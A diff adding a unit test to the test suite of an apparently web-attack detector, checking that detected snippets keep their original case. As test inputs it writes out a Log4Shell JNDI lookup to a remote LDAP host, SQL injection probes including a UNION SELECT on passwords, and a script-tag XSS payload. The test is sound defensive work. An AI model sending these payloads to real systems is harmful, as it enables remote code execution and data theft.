@@ -520,6 +520,17 @@ def test_a_jndi_lookup_is_log4shell_only_not_also_ssrf(event: Event) -> None:
     assert {h.attack_class for h in DETECTOR.inspect(event)} == {"jndi"}
 
 
+def test_a_snippet_keeps_the_case_it_was_sent_in() -> None:
+    # The snippets were casefolded: a Log4Shell class "Exploit" read "exploit", a base64
+    # payload could no longer be decoded, sqlmap's marker 'qVzR' read 'qvzr'.
+    jndi = DETECTOR.inspect(header("X-Api-Version", "${jndi:ldap://198.51.100.9:1389/Exploit}"))
+    assert [h.snippet for h in jndi] == ["${jndi:ldap://198.51.100.9:1389/Exploit}"]
+    (sqli,) = DETECTOR.inspect(q("1' AND 'qVzR'='qVzR"))
+    assert sqli.snippet == "1' AND 'qVzR'='qVzR"
+    (xss,) = DETECTOR.inspect(q("<ScRiPt>alert(1)</sCrIpT>"))
+    assert xss.snippet == "<ScRiPt>alert(1)</sCrIpT>"
+
+
 def test_hit_fields() -> None:
     [hit] = DETECTOR.inspect(q("1 UNION SELECT password FROM users", "district"))
     assert hit.attack_class == "sqli"
